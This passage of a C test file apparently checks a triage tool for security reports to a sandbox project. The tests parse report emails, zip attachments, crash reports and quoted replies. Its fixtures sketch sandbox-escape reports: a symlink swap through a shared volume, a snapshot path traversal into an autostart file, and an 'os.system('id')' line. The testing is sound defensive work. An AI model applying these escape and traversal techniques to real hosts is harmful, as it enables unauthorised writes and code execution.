		{ { "R-7_snapshot-listing.html", "text/html", report }, "other", TRUE, TRUE },
		{ { "export.htm", "application/octet-stream", report }, "other", TRUE, TRUE },
		{ { "autumn-update.html", "text/html", newsletter }, "other", FALSE, FALSE },
		{ { "exploit.html", "text/html", page }, "poc", TRUE, FALSE },
	};

	for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
		Att atts[2] = { cases[i].att, { NULL, NULL, NULL, 0 } };
		g_autoptr(StAnalysis) a = analyse(rules, NULL, "Our finding is attached, regards.", atts);
		StAttachment *att = g_ptr_array_index(a->msg->attachments, 0);
		if (g_strcmp0(st_role_name(att->role), cases[i].role) != 0 ||
		    a->check[ST_CHECK_POC] != cases[i].poc || a->check[ST_CHECK_LOGS] != cases[i].logs)
			FAIL("html write-up case %zu: role %s poc %d logs %d", i, st_role_name(att->role),
			     a->check[ST_CHECK_POC], a->check[ST_CHECK_LOGS]);
	}
}

/* A zip in memory of NAME, CONTENT pairs (NULL-terminated), written by
 * libarchive. */
static GBytes *
make_zip_of(const char *const *pairs)
{
	struct archive *w = archive_write_new();
	gsize cap = 1 << 20, used = 0;
	char *buf = g_malloc0(cap);

	archive_write_set_format_zip(w);
	g_assert_cmpint(archive_write_open_memory(w, buf, cap, &used), ==, ARCHIVE_OK);
	for (const char *const *m = pairs; *m; m += 2) {
		struct archive_entry *e = archive_entry_new();
		archive_entry_set_pathname(e, m[0]);
		archive_entry_set_size(e, (la_int64_t)strlen(m[1]));
		archive_entry_set_filetype(e, AE_IFREG);
		archive_entry_set_perm(e, 0644);
		archive_write_header(w, e);
		archive_write_data(w, m[1], strlen(m[1]));
		archive_entry_free(e);
	}
	archive_write_close(w);
	archive_write_free(w);
	return g_bytes_new_take(buf, used);
}

/* The notes in an attached archive (a README beside the PoC) give the
 * version and the platform the body lacks, and the logs when they hold the
 * transcript of a run (1907: the output only in the zip's README.txt), as
 * the same text attached alone would; their steps are not the body's PoC,
 * and steps without their output show no logs. */
static void
test_archive_notes(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	g_autofree char *big = g_strnfill(70000, 'x');
	static const char readme[] =
		"# volume swap\n\nTested: msb 0.8.6 on Ubuntu 24.04.1 LTS, kernel 6.8.0-49-generic\n\n"
		"Steps:\n1. $ msb run -v ~/share:/share ubuntu -- bash\n2. bash /share/swap.sh\n\n"
		"Output:\n$ cat ~/.bashrc | tail -1\necho pwned\n[ERROR] msb::fs: copy failed: EACCES\n";
	const char *const with_poc[] = {
		"__MACOSX/p/._README.md", "msb 9.9.9 on Fedora 40",
		"p/README.md", readme, "p/swap.sh", "#!/bin/sh\nln -sfn \"$1\" /share/x\n", NULL,
	};
	const char *const notes_only[] = { "notes.txt", readme, NULL };
	static const char steps[] =
		"Repro notes\n===========\n\nTried on msb 0.8.6.\n\n"
		"1. Start a sandbox with the share mounted:\n\n    $ msb run -v ~/share:/share ubuntu -- bash\n\n"
		"2. Inside it run the script:\n\n    # bash /share/swap.sh\n\n"
		"3. Check the last line of ~/.bashrc on the host afterwards.\n";
	static const char run[] =
		"sandbox-swap\n\nWhat I ran on my laptop, and what it printed:\n\n"
		"$ python3 trigger.py --share ~/share\n[trigger] sandbox up: t1\n[trigger] link planted\n"
		"[trigger] done, 3 files copied\n$ tail -1 ~/.profile\nexport FROM_GUEST=1\n";
	const char *const steps_only[] = { "repro/NOTES.md", steps, "repro/swap.sh", "#!/bin/sh\nln -s / x\n", NULL };
	const char *const run_only[] = { "sandbox-swap/README.txt", run, "sandbox-swap/trigger.py", "print(1)\n", NULL };
	const char *const too_big[] = { "README", big, NULL };
	const char *const code_only[] = { "swap.sh", "# msb 0.8.6 on Ubuntu 24.04.1 LTS, kernel 6.8.0\n", NULL };
	const char *body = "Guest code can write host files through a shared volume; the PoC "
			   "and a README with the versions are in the zip.\n";

	g_autoptr(GBytes) zip = make_zip_of(with_poc);
	gsize len;
	const char *data = g_bytes_get_data(zip, &len);
	Att atts[2] = { { "swap.zip", "application/zip", data, len }, { NULL, NULL, NULL, 0 } };
	g_autoptr(StAnalysis) a = analyse(rules, NULL, body, atts);
	g_assert_cmpstr(a->version, ==, "0.8.6");
	g_assert_cmpstr(a->os, ==, "linux");
	g_assert_cmpstr(a->kernel, ==, "6.8.0-49-generic");
	g_assert_true(a->check[ST_CHECK_PLATFORM]);
	g_assert_true(a->check[ST_CHECK_LOGS]);   /* the README's pasted output */

	g_autoptr(GBytes) zip2 = make_zip_of(notes_only);
	data = g_bytes_get_data(zip2, &len);
	Att atts2[2] = { { "notes.zip", "application/zip", data, len }, { NULL, NULL, NULL, 0 } };
	g_autoptr(StAnalysis) b = analyse(rules, NULL, body, atts2);
	g_assert_cmpstr(b->version, ==, "0.8.6");
	g_assert_false(b->check[ST_CHECK_POC]);    /* its steps are not the body's PoC */
	g_assert_true(b->check[ST_CHECK_LOGS]);

	/* a README of steps whose commands show no output: no logs; a run's
	 * transcript in a README.txt beside the script: logs */
	const char *const *const judged[] = { steps_only, run_only };
	const gboolean judged_logs[] = { FALSE, TRUE };
	for (gsize i = 0; i < G_N_ELEMENTS(judged); i++) {
		g_autoptr(GBytes) z = make_zip_of(judged[i]);
		data = g_bytes_get_data(z, &len);
		Att at[2] = { { "repro.zip", "application/zip", data, len }, { NULL, NULL, NULL, 0 } };
		g_autoptr(StAnalysis) c = analyse(rules, NULL, body, at);
		if (c->check[ST_CHECK_LOGS] != judged_logs[i])
			FAIL("archive notes logs case %zu: logs %d", i, c->check[ST_CHECK_LOGS]);
	}

	/* a member over max_member_bytes and a script are not notes */
	const char *const *const none[] = { too_big, code_only };
	for (gsize i = 0; i < G_N_ELEMENTS(none); i++) {
		g_autoptr(GBytes) z = make_zip_of(none[i]);
		data = g_bytes_get_data(z, &len);
		Att at[2] = { { "x.zip", "application/zip", data, len }, { NULL, NULL, NULL, 0 } };
		g_autoptr(StAnalysis) c = analyse(rules, NULL, body, at);
		g_assert_null(c->version);
		g_assert_null(c->os);
	}
	/* the body's own version comes first */
	g_autofree char *body2 = g_strconcat(body, "msb --version prints msb 0.8.5\n", NULL);
	data = g_bytes_get_data(zip, &len);
	g_autoptr(StAnalysis) d = analyse(rules, NULL, body2, atts);
	g_assert_cmpstr(d->version, ==, "0.8.5");
}

/* The README in an attached archive that tells what is wrong and what an
 * attacker gains is the write-up when the body only points to the
 * archive, as an attached report.md is (issue #3); one that only says how
 * to run the script describes nothing. */
static void
test_archive_description(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char writeup[] =
		"# Snapshot import trusts the archive's paths\n\n"
		"When msb imports a snapshot it extracts the tar entries without checking them, so an "
		"entry named ../../.config/autostart/x.desktop lands outside the snapshot directory.\n\n"
		"## Impact\n\nAnyone who hands a user a snapshot file can write any file that user can "
		"write on the host, and gets code execution at the next login.\n";
	static const char howto[] = "Run ./make_snap.sh, then msb snapshot import out.snap.\n";
	const char *const writeup_zip[] = { "snap/README.md", writeup, "snap/make_snap.sh", "#!/bin/sh\ntar cf out.snap x\n", NULL };
	const char *const bare[] = { "snap/README.md", howto, "snap/make_snap.sh", "#!/bin/sh\ntar cf out.snap x\n", NULL };
	const char *const *const sets[] = { writeup_zip, bare };
	static const gboolean want[] = { TRUE, FALSE };

	for (gsize i = 0; i < G_N_ELEMENTS(sets); i++) {
		g_autoptr(GBytes) z = make_zip_of(sets[i]);
		gsize len;
		const char *data = g_bytes_get_data(z, &len);
		Att at[2] = { { "snap-import.zip", "application/zip", data, len }, { NULL, NULL, NULL, 0 } };
		g_autoptr(StAnalysis) a = analyse(rules, NULL, "Write-up and script in the zip.\n", at);
		if (a->check[ST_CHECK_DESCRIPTION] != want[i])
			FAIL("archive description case %zu: description %d", i, a->check[ST_CHECK_DESCRIPTION]);
		g_assert_true(a->check[ST_CHECK_POC]);
	}
}

/* The credit a write-up README in an attached archive asks for is the
 * report's, as an attached report.md's is (issue #3): a Credit section
 * with a link, a wish to stay anonymous; a README that only says how to
 * run the script, or a packed project's README, whose credits are for
 * others, gives none. */
static void
test_archive_credit(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char writeup[] =
		"# Port forward binds every interface\n\n"
		"When you publish a port with -p, msbd binds the host side on all interfaces instead of "
		"loopback, so the service inside the sandbox is exposed to the whole network.\n\n## Impact\n\n"
		"An attacker on the same network can connect to a service the user meant to keep local and "
		"read its data.\n\n"
		"## Credit\n\nOrla Whelan (https://whelan-sec.example)\n";
	static const char anon[] =
		"# Port forward binds every interface\n\n"
		"When you publish a port with -p, msbd binds the host side on all interfaces instead of "
		"loopback, so the service inside the sandbox is exposed to the whole network.\n\n## Impact\n\n"
		"An attacker on the same network can connect to a service the user meant to keep local and "
		"read its data.\n\n"
		"Please keep me anonymous in the advisory.\n";
	static const char howto[] = "Run ./bind.sh, then curl the host's LAN address.\n\n"
				    "## Credits\n\nbind.sh is adapted from a snippet by Orla Whelan "
				    "(https://whelan-sec.example).\n";
	static const char project[] = "# tinyhttpd\n\nA small web server for tests.\n\n"
				      "## Credits\n\nWritten by Per Lindahl (https://lindahl.example).\n";
	const char *const sets[][5] = {
		{ "bind/README.md", writeup, "bind/bind.sh", "#!/bin/sh\nmsb run -p 8080:80 nginx\n", NULL },
		{ "bind/README.md", anon, "bind/bind.sh", "#!/bin/sh\nmsb run -p 8080:80 nginx\n", NULL },
		{ "bind/README.md", howto, "bind/bind.sh", "#!/bin/sh\nmsb run -p 8080:80 nginx\n", NULL },
		{ "tinyhttpd/README.md", project, "tinyhttpd/run.sh", "#!/bin/sh\nmsb run -p 8080:80 x\n", NULL },
	};
	static const struct { gboolean found, anonymous; const char *name, *link; } want[] = {
		{ TRUE, FALSE, "Orla Whelan", "https://whelan-sec.example" },
		{ TRUE, TRUE, NULL, NULL },
		{ FALSE, FALSE, NULL, NULL },
		{ FALSE, FALSE, NULL, NULL },
	};

	for (gsize i = 0; i < G_N_ELEMENTS(sets); i++) {
		g_autoptr(GBytes) z = make_zip_of(sets[i]);
		gsize len;
		const char *data = g_bytes_get_data(z, &len);
		Att at[2] = { { "bind-poc.zip", "application/zip", data, len }, { NULL, NULL, NULL, 0 } };
		g_autoptr(StAnalysis) a = analyse(rules, NULL, "Everything is in the zip.\n", at);
		if (a->credit_found != want[i].found || a->credit_anonymous != want[i].anonymous ||
		    g_strcmp0(a->credit_name, want[i].name) != 0 || g_strcmp0(a->credit_link, want[i].link) != 0)
			FAIL("archive credit case %zu: found %d anonymous %d name %s link %s", i, a->credit_found,
			     a->credit_anonymous, a->credit_name, a->credit_link);
	}
}

/* The whole of st_extract on one message: attachments fill gaps, quoted
 * text counts for facts but not for credit, the subject for exploitation. */
static void
test_extract_whole(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	Att atts[] = {
		{ "env.txt", "text/plain", "$ uname -a\nLinux h 6.8.0-48-generic #48-Ubuntu SMP x86_64 GNU/Linux\n"
					  "PRETTY_NAME=\"Ubuntu 24.04.1 LTS\"\n" },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) a = analyse(rules, "Sandbox escape (exploited in the wild)",
		"Sorry, forgot the version:\n\n  $ msb --version\n  msb 0.6.14\n\n"
		"On Mon, someone wrote:\n> Please credit me as Someone Else.\n> CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H\n", atts);
	g_assert_cmpstr(a->version, ==, "0.6.14");
	g_assert_true(a->check[ST_CHECK_VERSION]);
	g_assert_cmpstr(a->distro, ==, "Ubuntu 24.04.1 LTS");
	g_assert_cmpstr(a->kernel, ==, "6.8.0-48-generic");
	g_assert_true(a->check[ST_CHECK_PLATFORM]);
	g_assert_false(a->credit_found);
	g_assert_cmpstr(a->cvss_vector, ==, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H");
	g_assert_true(a->exploited);

	/* half a platform is reported but does not count */
	g_autoptr(StAnalysis) b = analyse(rules, NULL, "Kernel 6.8.0-48-generic, that is all.\nPlease credit me.", NULL);
	g_assert_cmpstr(b->kernel, ==, "6.8.0-48-generic");
	g_assert_false(b->check[ST_CHECK_PLATFORM]);
	g_assert_true(b->credit_found);
	g_assert_cmpstr(b->credit_name, ==, "Rep Orter");  /* from the From header */
}

/* issue #3: "Version and OS are in the crash report": the crash report
 * sent as application/octet-stream gives the version and the fields of
 * the host the body names that the body lacks; another program's crash
 * report gives no version. */
static void
test_crash_report_facts(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	Att atts[] = {
		{ "poc.c", "text/x-csrc", "#include <unistd.h>\nint main(void) { return 0; }\n" },
		{ "msb_2027-03-01-0915.crash", "application/octet-stream",
		  "Incident Identifier: 0C6F7B1A-22D4-4E8B-9A51-3F0D6C2E7B90\n"
		  "Process:               msb [4242]\nPath:                  /usr/local/bin/msb\n"
		  "Identifier:            msb\nVersion:               0.9.2\n"
		  "OS Version:            macOS 14.7.2 (23H311)\n"
		  "Exception Type:        EXC_BAD_ACCESS (SIGSEGV)\nCrashed Thread:        3\n" },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) a = analyse(rules, NULL, "It is my MacBook Air (M2). Version and OS are in "
					  "the crash report.", atts);
	g_assert_cmpstr(a->version, ==, "0.9.2");
	g_assert_cmpstr(a->os, ==, "macos");
	g_assert_cmpstr(a->macos_version, ==, "14.7.2");
	g_assert_cmpstr(a->chip, ==, "Apple M2");
	g_assert_true(a->check[ST_CHECK_PLATFORM]);
	g_assert_true(a->check[ST_CHECK_LOGS]);
	StAttachment *c = g_ptr_array_index(a->msg->attachments, 1);
	g_assert_cmpint(c->role, ==, ST_ROLE_LOG);

	Att other[] = {
		{ "Safari-2027-03-01.crash", "application/octet-stream",
		  "Process:               Safari [812]\nIdentifier:            com.apple.Safari\n"
		  "Version:               17.5\nException Type:        EXC_CRASH (SIGABRT)\n" },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) b = analyse(rules, NULL, "Safari crashed while msb was running.", other);
	g_assert_null(b->version);
	g_assert_false(b->check[ST_CHECK_VERSION]);
}

/* (1413) an attached log that is the host's journal gives the kernel the
 * body lacks from the kernel's boot banner; a bare dmesg or serial console
 * banner (as often the guest's boot) does not. */
static void
test_host_log_kernel(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	Att atts[] = {
		{ "node-journal.txt", "text/plain",
		  "Mar 02 07:55:10 gpu-node-3 kernel: Linux version 6.11.0-19-generic (buildd@bos03-amd64-051) "
		  "(x86_64-linux-gnu-gcc-14 (Ubuntu 14.2.0-4ubuntu2) 14.2.0, GNU ld 2.43.1) #19-Ubuntu SMP "
		  "PREEMPT_DYNAMIC Wed Feb 12 2027\n"
		  "Mar 04 11:02:31 gpu-node-3 msbd[1881]: sandbox sb-41: vmm exited with signal SIGSEGV\n"
		  "Mar 04 11:02:33 gpu-node-3 systemd-coredump[9120]: Process 9077 (msb-vmm) dumped core.\n" },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) a = analyse(rules, NULL, "The dump of msb-vmm is world readable on our "
					  "Ubuntu 24.10 nodes; the journal is attached.", atts);
	g_assert_cmpstr(a->distro, ==, "Ubuntu 24.10");
	g_assert_cmpstr(a->kernel, ==, "6.11.0-19-generic");

	Att guest[] = {
		{ "console.log", "text/plain",
		  "[    0.000000] Linux version 6.6.52 (builder@krunfw) (gcc 13.2.0) #1 SMP Thu Jan 1 2027\n"
		  "[    0.012000] Command line: console=hvc0 root=/dev/vda rw\n"
		  "[    1.204000] msb-agent: ready\n" },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) b = analyse(rules, NULL, "The dump of msb-vmm is world readable on our "
					  "Ubuntu 24.10 nodes; the console log is attached.", guest);
	g_assert_cmpstr(b->distro, ==, "Ubuntu 24.10");
	g_assert_null(b->kernel);

	/* (#3) a Windows console transcript (CRLF) gives the build the body's
	 * edition lacks: a Windows build is never a guest's; a build only
	 * mentioned in a line of prose in the log is not the banner */
	Att console[] = {
		{ "transcript.txt", "text/plain",
		  "Microsoft Windows [Version 10.0.26100.3194]\r\n(c) Microsoft Corporation.\r\n\r\n"
		  "C:\\Users\\dev>msb run alpine -- true\r\nerror: access denied\r\n" },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) c = analyse(rules, NULL, "msbd.exe runs as SYSTEM on my Windows 11 Pro "
					  "24H2 desktop; the console output is attached.", console);
	g_assert_cmpstr(c->os, ==, "windows");
	g_assert_cmpstr(c->kernel, ==, "10.0.26100.3194");
	Att said[] = {
		{ "notes.log", "text/plain",
		  "12:01 upgraded from Microsoft Windows [Version 10.0.22631.4751] last month, msb failed\n" },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) d = analyse(rules, NULL, "msbd.exe runs as SYSTEM on my Windows 11 Pro "
					  "24H2 desktop; the log is attached.", said);
	g_assert_null(d->kernel);

	/* (#3, 1969) `uname -r` at the user@host prompt that runs msb, before
	 * or after it, is the host's; at a guest's prompt it is not */
	const char *host_terms[] = {
		"kai@devbox:~$ uname -r\n6.12.9-200.fc41.x86_64\nkai@devbox:~$ msb run --name z alpine -- true\n"
		"error: denied\n",
		"kai@devbox:~/src$ msb --version\nmsb 0.9.1\nkai@devbox:~/src$ uname -r\n6.12.9-200.fc41.x86_64\n",
	};
	for (gsize i = 0; i < G_N_ELEMENTS(host_terms); i++) {
		Att term[] = { { "terminal.txt", "text/plain", host_terms[i] }, { NULL, NULL, NULL, 0 } };
		g_autoptr(StAnalysis) e = analyse(rules, NULL, "The shared cache leaks between users on my "
						  "Fedora Linux 41 workstation; terminal output attached.", term);
		if (g_strcmp0(e->kernel, "6.12.9-200.fc41.x86_64") != 0)
			FAIL("host prompt case %zu: kernel %s", i, e->kernel);
	}
	Att in_guest[] = {
		{ "terminal.txt", "text/plain",
		  "kai@devbox:~$ msb exec -it z sh\nroot@z:/# uname -r\n6.6.52\nroot@z:/# exit\n" },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) f = analyse(rules, NULL, "The shared cache leaks between users on my "
					  "Fedora Linux 41 workstation; terminal output attached.", in_guest);
	g_assert_cmpstr(f->distro, ==, "Fedora Linux 41");
	g_assert_null(f->kernel);
}

/* Windows writes its error reports (.wer) in UTF-16 with a byte-order
 * mark, and mailers send them as application/octet-stream: such a report
 * is read as text, a log, and gives msb's version; a text/plain part
 * labelled UTF-16 is read whole, not cut at its first NUL. */
static void
test_crash_report_utf16(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char wer[] = "Version=1\r\nEventType=APPCRASH\r\n"
		"Sig[0].Name=Application Name\r\nSig[0].Value=msb.exe\r\n"
		"Sig[1].Name=Application Version\r\nSig[1].Value=0.9.3.0\r\n"
		"Sig[3].Name=Fault Module Name\r\nSig[3].Value=ntdll.dll\r\n";
	gsize n = 0;
	g_autofree char *u16 = g_convert(wer, -1, "UTF-16LE", "UTF-8", NULL, &n, NULL);
	g_assert_nonnull(u16);
	g_autofree char *bom = g_malloc(n + 2);
	memcpy(bom, "\xff\xfe", 2);
	memcpy(bom + 2, u16, n);
	Att atts[] = {
		{ "Report.wer", "application/octet-stream", bom, n + 2 },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) a = analyse(rules, NULL, PROSE "msb crashed, the WER file is attached.", atts);
	g_assert_cmpstr(a->version, ==, "0.9.3");
	g_assert_true(a->check[ST_CHECK_LOGS]);
	StAttachment *c = g_ptr_array_index(a->msg->attachments, 0);
	g_assert_cmpint(c->role, ==, ST_ROLE_LOG);

	g_autofree char *log = g_convert("$ msb --version\nmsb 0.9.2\n", -1, "UTF-16LE", "UTF-8", NULL, &n, NULL);
	Att labelled[] = {
		{ "version.txt", "text/plain; charset=utf-16le", log, n },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) b = analyse(rules, NULL, PROSE "The version is in the attached file.", labelled);
	g_assert_cmpstr(b->version, ==, "0.9.2");
}

/* A reply that quotes our acknowledgment: the quoted hints are not facts. */
static void
test_quoted_ack(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	g_autoptr(StAnalysis) a = analyse(rules, "Re: [SEC-2026-0007] sandbox escape",
		"Here you go, msb 0.6.14 on Fedora 41.\n\n"
		"On Mon, 2 Nov 2026, security@superrad.company wrote:\n"
		"> Thank you for your report to the microsandbox security team. It is filed\n"
		"> under the tracking id SEC-2026-0007\n>\n"
		"> Our policy asks every report for five things:\n"
		">   [x] A description of the issue and its impact\n"
		">   [ ] Host platform\n>   [-] Any logs, traces, or screenshots\n>\n"
		">   * Host platform\n>     macOS: the output of `sw_vers` and the chip (e.g. Apple M2).\n"
		"> Tell us what an attacker can do, from where, and what it affects.\n"
		"> If a vulnerability is being actively exploited in the wild, we prioritize it.\n"
		"> Include your preferred name and a link if you'd like to be credited.\n", NULL);
	g_assert_cmpstr(a->version, ==, "0.6.14");
	g_assert_cmpstr(a->os, ==, "linux");
	g_assert_cmpstr(a->distro, ==, "Fedora 41");
	g_assert_null(a->chip);
	g_assert_false(a->check[ST_CHECK_LOGS]);
	g_assert_false(a->check[ST_CHECK_DESCRIPTION]);
	g_assert_false(a->credit_found);
	g_assert_false(a->exploited);

	/* new text beats quoted text */
	g_autoptr(StAnalysis) c = analyse(rules, "Re: x", "Upgraded: microsandbox 0.6.14 now, same result.\n\n"
		"> $ msb --version\n> msb 0.6.13\n> Host: Fedora 40, kernel 6.8\n", NULL);
	g_assert_cmpstr(c->version, ==, "0.6.14");
	g_assert_cmpstr(c->distro, ==, "Fedora 40");

	/* a Python prompt is not a quote */
	g_autoptr(StAnalysis) b = analyse(rules, NULL, PROSE ">>> import os\n>>> os.system('id')\nuid=0(root)\n", NULL);
	g_assert_true(b->check[ST_CHECK_POC]);
}

/* Mail quoted under a reply header instead of "> " marks (Outlook's
 * separator and From:/Sent: block, "On ... wrote:" in other languages) is
 * quoted history, and our own mail quoted back (named as the sender, or
 * signed by the team) gives no facts at all.  VERSION is the version
 * expected (NULL: none), CREDIT whether a credit request is found. */
static const struct {
	const char *subject, *body, *version;
	gboolean credit;
} reply_headers[] = {
	/* Outlook, English: our notice under the separator */
	{ "RE: [SEC-2026-0100] guest reads host files", "Thanks, good to hear.\n\n"
	  "-----Original Message-----\nFrom: microsandbox security team <security@superrad.company>\n"
	  "Sent: Thursday, November 26, 2026 4:40 PM\nTo: Ann Example <ann@example.org>\n"
	  "Subject: [SEC-2026-0100] guest reads host files\n\nThe fix shipped in msb 0.9.1.\n"
	  "Tell us the name to credit, or whether you prefer to remain anonymous.\n", NULL, FALSE },
	/* Outlook, French, no separator line: the From:/Sent: block alone */
	{ "RE: [SEC-2026-0101] x", "Merci !\n\nDe : microsandbox security team <security@superrad.company>\n"
	  "Envoyé : jeudi 26 novembre 2026 16:40\nÀ : Ann Example\n\n"
	  "Fixed in msb 0.9.1; say if you would prefer to remain anonymous.\n", NULL, FALSE },
	/* the reporter's own earlier mail under a German separator: its facts
	 * count, its credit request does not (quoted) */
	{ "AW: escape", "Hier noch einmal mein Bericht.\n\n-----Ursprüngliche Nachricht-----\n"
	  "Von: Ann Example <ann@example.org>\nGesendet: Montag, 23. November 2026 09:12\n"
	  "An: security@superrad.company\n\n  $ msb --version\n  msb 0.8.2\n\n"
	  "Please credit me as Ann Example.\n", "0.8.2", FALSE },
	/* an attribution over unmarked text (an HTML quote read as text), wrapped */
	{ "Re: [SEC-2026-0102] y", "Thank you!\n\nOn Thu, Nov 26, 2026 at 4:40 PM microsandbox security team <\n"
	  "security@superrad.company> wrote:\nThe fix shipped in msb 0.8.7.\n"
	  "We credited you as \"Ann Example\" as you asked.\n", NULL, FALSE },
	/* German attribution over "> " lines, ours by the team's signature */
	{ "Re: z", "Danke!\n\nAm 26.11.2026 um 16:40 schrieb Team:\n> Der Fix ist in msb 0.8.7.\n>\n"
	  "> -- \n> microsandbox security team\n", NULL, FALSE },
	/* answers between the quoted lines of an inline reply stay the writer's */
	{ "Re: [SEC-2026-0103] w", "On 26/11/2026 15:25, microsandbox security team wrote:\n"
	  "> Which version do you run?\n\n  $ msb --version\n  msb 0.8.6\n\n> Anything else?\n\n"
	  "Please credit me as Ann Example.\n", "0.8.6", TRUE },
	/* "On ... wrote:" with neither a date nor an address is prose */
	{ NULL, "On the host the script wrote:\n\n  msb 0.8.4\n\nPlease credit me as Ann Example.\n",
	  "0.8.4", TRUE },
	/* webmail's block with the date first (Spanish), over our notice */
	{ "RE: [SEC-2026-0105] v", "Gracias.\n\nEnviado: martes, 1 de diciembre de 2026, 10:02\n"
	  "De: \"microsandbox\" <security@superrad.company>\nPara: ana@example.org\n"
	  "Asunto: v\nThe fix shipped in msb 0.9.2; say if you would prefer to remain anonymous.\n",
	  NULL, FALSE },
	/* "From:" over "Date:" (Outlook for Mac), a third party's mail: facts
	 * kept, its credit request quoted */
	{ "Re: u", "See the thread below.\n\nFrom: Bob Example <bob@example.org>\n"
	  "Date: Tuesday, 1 December 2026 at 10:02\nTo: Ann <ann@example.org>\n\n"
	  "  $ msb --version\n  msb 0.8.5\n\nPlease credit me as Bob Example.\n", "0.8.5", FALSE },
	/* our note pasted back with neither a header nor marks */
	{ "t", "Still waiting.\n\nHello,\n\nWe received your message about SEC-2026-0106 and added "
	  "it to the report.\nThe fix shipped in msb 0.9.3; or you prefer to remain anonymous.\n", NULL, FALSE },
	/* a forwarded report (Portuguese separator) stays the writer's own */
	{ "s", "Segue o relato de um colega.\n\n---------- Mensagem encaminhada ---------\n"
	  "De: Ann Example <ann@example.org>\nData: 1 dez 2026 10:02\n\n  $ msb --version\n"
	  "  msb 0.8.3\n\nPlease credit me as Ann Example.\n", "0.8.3", TRUE },
	/* ... unless it is our own mail forwarded back (German Apple Mail) */
	{ "r", "Zur Info.\n\nAnfang der weitergeleiteten Nachricht:\n\n"
	  "Von: microsandbox security team <security@superrad.company>\nBetreff: r\n\n"
	  "The fix shipped in msb 0.9.4; say if you would prefer to remain anonymous.\n", NULL, FALSE },
	/* a client's forward (its Subject prefix) over Outlook's header
	 * block in the client's language: the block opens the forwarded
	 * report, which is the forwarder's to pass on, credit request and all
	 * (German "WG:", Spanish "RV:" with "Enviado el:", French "TR:") */
	{ "WG: Cache-Volume", "Zur Info, der Bericht meiner Kollegin steht unten.\n\n"
	  "Von: Lena Brandt <lena@example.org>\nGesendet: Dienstag, 3. August 2027 10:15\n"
	  "An: Jan Ott <jan@example.org>\nBetreff: Cache-Volume\n\n  $ msb --version\n  msb 0.8.9\n\n"
	  "Please credit me as Lena Brandt.\n", "0.8.9", TRUE },
	{ "RV: hallazgo", "Os reenvío lo que encontró Marta.\n\nDe: Marta Gil <marta@example.org>\n"
	  "Enviado el: martes, 3 de agosto de 2027 10:15\nPara: Luis <luis@example.org>\n"
	  "Asunto: hallazgo\n\nmsb 0.8.8 here.  Please credit me as Marta Gil.\n", "0.8.8", TRUE },
	{ "TR: faille", "Transmis pour information.\n\nDe : Paul Roy <paul@example.org>\n"
	  "Envoyé : mardi 3 août 2027 10:15\nÀ : Anne <anne@example.org>\nObjet : faille\n\n"
	  "msb 0.8.7 ici.  Please credit me as Paul Roy.\n", "0.8.7", TRUE },
	/* ... but the same block under a reply ("RE:") is quoted history */
	{ "RE: faille", "Vu, merci.\n\nDe : Paul Roy <paul@example.org>\n"
	  "Envoyé : mardi 3 août 2027 10:15\nÀ : Anne <anne@example.org>\nObjet : faille\n\n"
	  "msb 0.8.7 ici.  Please credit me as Paul Roy.\n", "0.8.7", FALSE },
	{ "RE: hallazgo", "Gracias.\n\nDe: Marta Gil <marta@example.org>\n"
	  "Enviado el: martes, 3 de agosto de 2027 10:15\nPara: Luis <luis@example.org>\n"
	  "Asunto: hallazgo\n\nmsb 0.8.8 here.  Please credit me as Marta Gil.\n", "0.8.8", FALSE },
	/* ... and our own mail forwarded under it is not the writer's text */
	{ "FW: [SEC-2026-0107] q", "See below.\n\nFrom: microsandbox security team <security@superrad.company>\n"
	  "Sent: Tuesday, August 3, 2027 10:15 AM\nTo: Ann Example <ann@example.org>\nSubject: q\n\n"
	  "The fix shipped in msb 0.9.5; say if you would prefer to remain anonymous.\n", NULL, FALSE },
	/* (#3) the writer's own earlier mail quoted under a reply that adds
	 * to it: its credit request is still the writer's (an attribution
	 * naming the From address, wrapped or not, or Outlook's block) */
	{ "Re: agent socket", "Forgot the version: msb 0.8.1\n\nOn Mon, 1 Mar 2027 at 09:10, Rep Orter "
	  "<rep@example.org> wrote:\n> The agent socket is world-writable.\n>\n"
	  "> If you publish something, you may credit me as Rep Orter.\n", "0.8.1", TRUE },
	{ "Re: agent socket", "Version is msb 0.8.2.\n\nOn Mon, 1 Mar 2027 at 09:10, Rep Orter <\n"
	  "rep@example.org> wrote:\n> The agent socket is world-writable.\n> Please credit me as Rep Orter.\n",
	  "0.8.2", TRUE },
	{ "AW: Agent-Socket", "Nachtrag: msb 0.8.3\n\n-----Ursprüngliche Nachricht-----\n"
	  "Von: Rep Orter <rep@example.org>\nGesendet: Montag, 1. März 2027 09:12\n"
	  "An: security@superrad.company\n\nThe agent socket is world-writable. Please credit me as Rep Orter.\n",
	  "0.8.3", TRUE },
	/* ... but a signature in it asks for nothing, and the writer's
	 * address in prose does not make a third party's quoted mail theirs */
	{ "Re: agent socket", "Forgot the version: msb 0.8.4\n\nOn Mon, 1 Mar 2027 at 09:10, Rep Orter "
	  "<rep@example.org> wrote:\n> The agent socket is world-writable.\n>\n> Regards,\n> Rep Orter\n",
	  "0.8.4", FALSE },
	{ "Re: agent socket", "Write to rep@example.org for details.\n\nOn Mon, 1 Mar 2027 at 09:10, Bob Example "
